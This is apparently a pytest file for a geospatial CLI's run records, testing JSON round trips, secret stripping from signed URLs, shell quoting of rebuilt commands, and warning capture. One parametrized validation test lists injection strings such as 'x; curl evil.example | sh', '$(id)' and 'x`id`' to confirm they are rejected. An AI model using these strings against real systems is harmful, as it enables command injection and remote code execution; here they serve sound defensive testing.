"""Records of runs, and the commands that make their files again."""

from __future__ import annotations

import json
import logging
import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import fields
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest

from s2fin_cli.core.pools import ThreadPool
from s2fin_cli.core.run_record import MOST_ENTRIES, MOST_LETTERS, RunRecord, UsedFile, recorded_warnings
from s2fin_cli.reporting.commands import command_of
from s2fin_cli.workflows.options.classify import ClassifyOptions
from s2fin_cli.workflows.options.report import ReportOptions
from s2fin_cli.workflows.options.train import TrainOptions
from s2fin_cli.workflows.run_record import NOT_KEPT, record_files
from tests.stac.making import asset, item, save

if TYPE_CHECKING:
    from pathlib import Path
from s2fin_cli.workflows.shard_plan import OPTIONS

RECORD = RunRecord(
    "train",
    (UsedFile("msi", "a b.tif", 5, "00"), UsedFile("msi", "c.tif"), UsedFile("labels", "l.gpkg", 7)),
    {
        "bidx": ["1..3", "dsm:1"],
        "bounds": [0.0, 1.0, 2.5, 3.0],
        "refit": False,
        "smooth": True,
        "label_field": "my class",
    },
    {"torch": "2.0"},
    ("take care",),
)


def test_a_round_trip_through_json_loses_nothing() -> None:
    assert RunRecord.from_dict(json.loads(json.dumps(RECORD.to_dict()))) == RECORD
    assert RECORD.paths_of("msi") == ["a b.tif", "c.tif"]
    with pytest.raises(KeyError):
        RunRecord.from_dict({"command": "train"})


def test_what_is_too_long_to_keep_is_left_out_when_it_is_written() -> None:
    long = RunRecord(
        "train", (UsedFile("msi", "a" * 10**5),), {"bidx": ["1"] * 10**5}, {"torch": "2"}, ("take care",) * 10**5
    )
    found = RunRecord.from_dict(json.loads(json.dumps(long.to_dict())))
    assert found.files == (UsedFile("msi", "a" * MOST_LETTERS),)
    assert found.options == {"bidx": ["1"] * MOST_ENTRIES}
    assert len(found.warnings) == MOST_ENTRIES


def test_signatures_of_assets_do_not_get_into_records(tmp_path: Path) -> None:
    signed = "https://e.org/B02.tif?sig=SECRET"
    path = save(tmp_path / "item.json", item(assets={"B02": asset("B02", "1.1") | {"href": signed}}))
    options = ClassifyOptions.from_kwargs({"msi": f"{path}#assets=B02", "output": "map.tif"})
    record = record_files("classify", options, named=options.src_paths, warnings=[f"{signed} has 3 bands", "take care"])
    assert record.warnings == ("https://e.org/B02.tif has 3 bands", "take care")
    assert "SECRET" not in json.dumps(record.to_dict())


def test_the_command_is_what_was_typed() -> None:
    assert command_of(RECORD, "my model.s2fin") == (
        "s2fin train --msi 'a b.tif' --msi c.tif --labels l.gpkg --bidx 1..3 --bidx dsm:1 --bounds 0.0 1.0 2.5 3.0 "
        "--no-refit --smooth --label-field 'my class' --output 'my model.s2fin'"
    )


def test_data_in_memory_are_files_in_the_command() -> None:
    named = ("hsi (DataArray)", "labels (GeoDataFrame 2)", "labels (DataArray); x", "$(x) (DataArray)")
    files = tuple(UsedFile("hsi", name) for name in named)
    assert command_of(RunRecord("train", files), "m.s2fin") == (
        "s2fin train --hsi HSI.tif --hsi LABELS2.gpkg --hsi 'labels (DataArray); x' --hsi '$(x) (DataArray)' "
        "--output m.s2fin"
    )


@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "x y", "x\n", "X", "-x", "--x", "", "x`id`"])
def test_no_shell_code_is_a_name_in_a_record(name: str) -> None:
    forged: list[dict[str, Any]] = [
        {"command": name},
        {"files": [{"option": name, "path": "a", "size": None, "sha256": None}]},
        {"options": {name: "value"}},
    ]
    for part in forged:
        with pytest.raises(ValueError, match=r"^a name is "):
            RunRecord.from_dict({**RECORD.to_dict(), **part})


def test_every_command_and_option_has_a_name_that_a_record_may_hold() -> None:
    options = [field.name for kind in (ClassifyOptions, TrainOptions, ReportOptions) for field in fields(kind)]
    for command in ("train", "classify", "classify-all", "report"):
        record = RunRecord(command, tuple(UsedFile(name, "a") for name in options), dict.fromkeys(options, 1), {})
        assert RunRecord.from_dict(record.to_dict()) == record


def test_warnings_are_collected_once_each_and_still_shown(capsys: pytest.CaptureFixture[str]) -> None:
    logger = logging.getLogger("s2fin_cli.some.module")
    with recorded_warnings() as found:
        for text in ("first", "second", "first"):
            logger.warning("%s", text)
        logger.info("not this")
        logging.getLogger("s2fin_cli.core.leftovers").warning("what an earlier run left")
        assert found == []
    assert found == ["first", "second"]
    logger.warning("later")
    assert found == ["first", "second"]
    assert not logging.getLogger("s2fin_cli").handlers


def test_warnings_are_collected_when_the_work_fails() -> None:
    found: list[str] = []

    def work() -> None:
        with recorded_warnings() as own:
            logging.getLogger("s2fin_cli").warning("before")
            try:
                raise ValueError("broken")
            finally:
                found.append("reached")
        found.extend(own)

    with pytest.raises(ValueError, match="broken"):
        work()
    assert found == ["reached"]
    assert not logging.getLogger("s2fin_cli").handlers


def test_a_record_has_the_warnings_of_its_own_thread_and_its_pools() -> None:
    logger = logging.getLogger("s2fin_cli.some.module")
    together = threading.Barrier(3)

    def work(name: str) -> list[str]:
        with recorded_warnings() as outer, recorded_warnings() as inner, ThreadPool(1) as pool:
            together.wait()
            logger.warning("%s", name)
            pool.submit(logger.warning, "%s in a pool", name).result()
            together.wait()
        assert outer == inner
        return outer

    with ThreadPoolExecutor(2) as threads:
        parts = [threads.submit(work, name) for name in ("a", "b")]
        together.wait()
        logger.warning("nobody's")
        together.wait()
        assert [part.result() for part in parts] == [["a", "a in a pool"], ["b", "b in a pool"]]
    assert not logging.getLogger("s2fin_cli").handlers


def test_maps_keep_the_options_that_their_shards_have_in_common() -> None:
    """Otherwise maps that are equal would differ in their records, by how many workers made them for example."""
    files = {"hsi", "msi", "lidar", "dsm", "sar", "thermal", "aoi", "model"}
    assert {field.name for field in fields(ClassifyOptions)} - set(NOT_KEPT) - files == {*OPTIONS, "stride"}


def test_values_of_numpy_are_recorded_as_plain_ones() -> None:
    values: dict[str, Any] = {"refit": np.bool_(False), "epochs": np.int64(3), "nodata": np.array([1.5], np.float32)}
    kept = record_files("train", TrainOptions(msi="a.tif", labels="l.gpkg", **values), named={}).options or {}
    plain = {"refit": False, "epochs": 3, "nodata": [1.5]}
    assert json.loads(json.dumps({name: kept[name] for name in values})) == plain
    values = {"smooth": np.bool_(True)}
    classify = ClassifyOptions(msi="a.tif", output="map.tif", **values)
    assert (record_files("classify", classify, named={}).options or {})["smooth"] is True


@pytest.mark.parametrize("empty", [None, (), [], np.array([])])
def test_an_option_without_values_counts_as_not_given(empty: Any) -> None:
    options = ClassifyOptions(msi="a.tif", output="map.tif", nodata=empty)
    assert "nodata" not in (record_files("classify", options, named={}).options or {})
